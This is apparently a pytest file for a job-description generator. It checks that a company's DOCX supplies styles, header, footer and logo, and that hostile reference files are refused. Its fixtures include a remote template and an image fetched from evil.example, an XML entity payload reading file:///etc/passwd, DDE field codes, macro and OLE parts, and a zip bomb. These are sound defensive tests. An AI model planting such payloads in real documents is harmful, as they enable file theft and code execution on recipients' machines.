"""A company's own DOCX as source of styles, head, foot and logo; hostile files are refused before they are opened."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml.parser import OxmlElement
from docx.shared import Pt, RGBColor

from jdgen.errors import UserError
from jdgen.formats import docx as renderer
from tests import docx_reading as reading
from tests.docx_reading import W
from tests.sample import ROOT, document

ASSETS = ROOT / "templates" / "assets"
MOMENT = datetime(2027, 1, 11, tzinfo=UTC)
R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"


def company(path: Path, *, logo: bool = True, running: bool = True) -> Path:
    """Write a company's document: its own Heading 2, head, foot, margins, text and comment."""
    made: Any = docx.Document()
    made.styles["Heading 2"].font.color.rgb = RGBColor(0x99, 0x00, 0x11)
    made.styles["Normal"].font.size = Pt(13)
    made.core_properties.author = "Secret Author"
    paragraph = made.add_paragraph("Secret text of the company")
    made.add_comment(paragraph.runs, text="Secret comment", author="X")
    section = made.sections[0]
    section.left_margin = Pt(99)
    if running:
        section.header.paragraphs[0].text = "ACME head"
        section.footer.paragraphs[0].text = "ACME foot"
        if logo:
            section.header.paragraphs[0].add_run().add_picture(str(ASSETS / "logo.png"))
    made.save(str(path))
    return path


def changed(path: Path, files: Mapping[str, bytes]) -> Path:
    """Write files into a document, in place of those of the same name."""
    with zipfile.ZipFile(path) as archive:
        whole = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**whole, **files}.items():
            archive.writestr(name, data)
    return path


def made(reference: Path, locale: str = "en-GB", kind: str = "description") -> bytes:
    """Return the sample in the company's dress."""
    doc = document("hr-specialist", locale, kind)
    return renderer.render(doc, image_folders=[ASSETS], created=MOMENT, reference=reference)


def refused(reference: Path) -> list[str]:
    """Return the codes with which a reference is refused."""
    with pytest.raises(UserError) as caught:
        made(reference)
    assert [p.place.file for p in caught.value.problems] == [reference.name] * len(caught.value.problems)
    return [p.code for p in caught.value.problems]


def everything(data: bytes) -> bytes:
    """Return all parts of a file one after the other."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


def test_styles_head_foot_and_margins_are_the_companys(tmp_path: Path) -> None:
    """Heading colour, font size, margins, head and foot come from the reference; the words are the document's."""
    data = made(company(tmp_path / "acme.docx"))
    opened: Any = docx.Document(io.BytesIO(data))
    assert str(opened.styles["Heading 2"].font.color.rgb) == "990011"
    assert opened.styles["Normal"].font.size.pt == 13
    assert opened.sections[0].left_margin.pt == 99
    assert (opened.sections[0].header.paragraphs[0].text, opened.sections[0].footer.paragraphs[0].text) == (
        "ACME head",
        "ACME foot",
    )
    own = renderer.render(
        document("hr-specialist", "en-GB", "description"), image_folders=[ASSETS], created=MOMENT
    )
    assert reading.words(data) == reading.words(own)


def test_nothing_else_of_the_company_is_copied(tmp_path: Path) -> None:
    """Text, comments, author and custom parts of the reference are not in the result."""
    path = changed(company(tmp_path / "acme.docx"), {"customXml/item9.xml": b"<x>Secret item</x>"})
    data = made(path)
    assert b"Secret" not in everything(data)
    assert [name for name in reading.names(data) if "comment" in name or "customXml" in name] == []


def test_logo_of_the_head_replaces_ours(tmp_path: Path) -> None:
    """With a picture in the company's head the document has none of its own; without, it has."""
    with_logo = reading.body(made(company(tmp_path / "a.docx")))
    without = reading.body(made(company(tmp_path / "b.docx", logo=False)))
    assert (len(list(with_logo.iter(f"{W}drawing"))), len(list(without.iter(f"{W}drawing")))) == (0, 1)


def test_a_reference_without_head_gets_ours(tmp_path: Path) -> None:
    """Where the reference has neither head nor foot, the document's own page numbers are written."""
    data = made(company(tmp_path / "plain.docx", running=False))
    fields = [
        e.text
        for name in reading.names(data)
        if name.startswith("word/footer")
        for e in reading.part(data, name).iter(f"{W}instrText")
    ]
    assert fields == [" PAGE ", " NUMPAGES "]


def test_a_draft_is_stamped_in_the_companys_head(tmp_path: Path) -> None:
    """The watermark of a draft stands in the head of the reference too."""
    data = made(company(tmp_path / "acme.docx"), "ru-RU")
    heads = [everything(data).count(b'string="' + "ПРОЕКТ".encode() + b'"')]
    assert heads == [1]


def test_arabic_in_a_companys_dress(tmp_path: Path) -> None:
    """An Arabic document stays right to left in a reference made for English."""
    body = reading.body(made(company(tmp_path / "acme.docx"), "ar-SA"))
    assert [p for p in body.iter(f"{W}p") if p.find(f"{W}pPr/{W}bidi") is None] == []
    assert body.find(f"{W}sectPr/{W}bidi") is not None


def test_same_bytes_with_a_reference(tmp_path: Path) -> None:
    """Two builds with one reference give the same bytes."""
    path = company(tmp_path / "acme.docx")
    assert made(path) == made(path)


def test_numbers_of_the_companys_heading_style_do_not_double_ours(tmp_path: Path) -> None:
    """Where the reference numbers Heading 2 by itself, an unnumbered heading of ours switches that off."""
    opened: Any = docx.Document()
    style = opened.styles["Heading 2"].element
    about = style.get_or_add_pPr()
    number = about.get_or_add_numPr().get_or_add_numId()
    number.val = 1
    path = tmp_path / "numbered.docx"
    opened.save(str(path))
    body = reading.body(made(path, kind="profile"))
    heads = [p for p in body.iter(f"{W}p") if reading.style(p) == "Heading2"]
    assert {reading.attribute(p.find(f"{W}pPr/{W}numPr/{W}numId")) for p in heads} == {"0"}


def test_a_template_link_is_dropped(tmp_path: Path) -> None:
    """A reference bound to a template somewhere gives a document that is bound to none."""
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    path = changed(company(tmp_path / "acme.docx"), {"word/_rels/settings.xml.rels": rels})
    assert b"evil.example" not in everything(made(path))


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin"])
def test_macros_and_objects_are_refused(tmp_path: Path, name: str) -> None:
    """A reference with macros, controls or embedded objects is refused."""
    assert refused(changed(company(tmp_path / "acme.docx"), {name: b"MZ"})) == ["D012"]


def test_a_macro_document_is_refused_by_its_name_and_by_its_type(tmp_path: Path) -> None:
    """A .docm is refused, and a macro document that is called .docx too."""
    path = company(tmp_path / "acme.docx")
    assert refused(path.rename(tmp_path / "acme.docm")) == ["D012"]
    path = company(tmp_path / "acme.docx")
    with zipfile.ZipFile(path) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert refused(changed(path, {"[Content_Types].xml": types})) == ["D012"]


def test_a_zip_bomb_is_refused_unopened(tmp_path: Path) -> None:
    """Thirty megabytes of zeros in a small file, and three thousand entries, are refused."""
    path = changed(company(tmp_path / "acme.docx"), {"word/media/a.xml": bytes(30_000_000)})
    assert (path.stat().st_size < 1_000_000, refused(path)) == (True, ["D013"])
    many = {f"word/x{i}.txt": b"" for i in range(3000)}
    assert refused(changed(company(tmp_path / "b.docx"), many)) == ["D013"]


@pytest.mark.parametrize(
    "doctype", [b'<!DOCTYPE a [<!ENTITY b "c">]>', '<!DOCTYPE a SYSTEM "file:///etc/passwd">'.encode("utf-16")]
)
def test_entities_are_refused(tmp_path: Path, doctype: bytes) -> None:
    """A part with a document type is refused, in UTF-16 too."""
    tail = "<a>&b;</a>" if b"ENTITY" in doctype else "<a/>"
    text = doctype + (tail.encode() if b"ENTITY" in doctype else tail.encode("utf-16")[2:])
    assert refused(changed(company(tmp_path / "acme.docx"), {"word/styles.xml": text})) == ["D012"]


def test_what_would_fetch_is_refused(tmp_path: Path) -> None:
    """A picture from outside and a DDE field in the head are refused."""
    path = company(tmp_path / "acme.docx")
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="http://evil.example/p.png" TargetMode="External"/></Relationships>'
    )
    assert refused(changed(path, {"word/_rels/header1.xml.rels": rels})) == ["D012"]
    opened: Any = docx.Document()
    run = opened.sections[0].header.paragraphs[0].add_run()
    for piece in ("PAGE", "DDE", "AUTO cmd"):
        code = OxmlElement("w:instrText")
        code.text = piece
        run._r.append(code)
    opened.save(str(tmp_path / "dde.docx"))
    assert refused(tmp_path / "dde.docx") == ["D012"]


def test_missing_styles_are_named(tmp_path: Path) -> None:
    """A reference without headings is refused, and the message names the styles that it lacks."""
    opened: Any = docx.Document()
    for name in ("Heading 2", "Heading 3"):
        style = opened.styles[name].element
        style.getparent().remove(style)
    path = tmp_path / "bare.docx"
    opened.save(str(path))
    with pytest.raises(UserError) as caught:
        made(path)
    assert [(p.code, p.message) for p in caught.value.problems] == [
        ("D014", "the reference has no style 'Heading 2', 'Heading 3'")
    ]


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"{\\rtf1 hello}", b"\xd0\xcf\x11\xe0" + bytes(600)])
def test_no_word_document_is_refused(tmp_path: Path, content: bytes) -> None:
    """An empty file, a torn archive, RTF and an old .doc are refused."""
    path = tmp_path / "x.docx"
    path.write_bytes(content)
    assert refused(path) == ["D011"]


def test_other_archives_are_refused(tmp_path: Path) -> None:
    """A ZIP without Word's parts, a workbook's type, a folder and a file that is not there are refused."""
    other = tmp_path / "other.docx"
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("readme.txt", "hello")
    sheet = company(tmp_path / "sheet.docx")
    with zipfile.ZipFile(sheet) as archive:
        types = archive.read("[Content_Types].xml").replace(
            b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"
        )
    changed(sheet, {"[Content_Types].xml": types})
    (tmp_path / "folder.docx").mkdir()
    paths = [other, sheet, tmp_path / "folder.docx", tmp_path / "none.docx"]
    assert [refused(path) for path in paths] == [["D011"]] * 4


@pytest.mark.parametrize("step", range(12))
def test_a_torn_reference_never_ends_in_a_traceback(tmp_path: Path, step: int) -> None:
    """A reference cut or overwritten anywhere gives a problem or a document, nothing else."""
    path = company(tmp_path / "acme.docx")
    data = bytearray(path.read_bytes())
    at = len(data) * step // 12
    data[at : at + 400] = bytes(reversed(data[at : at + 400]))
    path.write_bytes(bytes(data[: len(data) - 50 * (step % 2)]))
    try:
        found = len(made(path)) > 10_000
    except UserError as error:
        found = {p.code for p in error.problems} <= {"D011", "D012", "D013", "D014"}
    assert found is True
